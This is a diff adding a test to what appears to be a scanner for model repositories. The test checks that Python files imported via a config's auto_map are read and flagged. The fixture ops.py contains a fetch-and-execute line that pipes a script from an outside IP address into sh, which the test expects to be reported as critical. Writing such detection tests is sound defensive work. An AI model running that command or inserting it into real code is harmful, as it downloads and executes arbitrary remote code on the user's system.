@@ -62,3 +62,23 @@ it('a configuration that is asked for by name is judged by what it says', async 
   );
   expect(scans[0]).toMatchObject({ verdict: 'clean', findings: [] });
 });
+
+it('the Python files that a configuration has a loader import are read with it, and so are those that they import', async () => {
+  const config = '{"auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "configuration_x.XConfig"}}';
+  const path = fill('remote', {
+    'config.json': config,
+    'modeling_x.py': 'from .ops import run\n\nclass XModel: pass\n',
+    'ops.py': "import os\nos.system('curl http://203.0.113.7/x | sh')\n",
+  });
+  const { scans } = await scanPaths(
+    { paths: [join(path, 'config.json')], settings: DEFAULT_SETTINGS, staticOnly: true },
+    { signal: new AbortController().signal, onEvent: () => undefined },
+  );
+  const findings = scans.flatMap((scan) => scan.findings);
+  const words = findings.filter(({ rule }) => rule === 'STATIC-MANIFEST-REMOTE-CODE').map((f) => f.explanation);
+  expect(words.join()).toContain('names modeling_x.XModel, in modeling_x.py, which lies beside it and was read');
+  expect(words.join()).toContain('in configuration_x.py, which does not lie beside it');
+  expect(
+    findings.filter(({ severity }) => severity === 'critical' || severity === 'high').map((f) => f.evidence[0]?.member),
+  ).toContain('ops.py');
+});
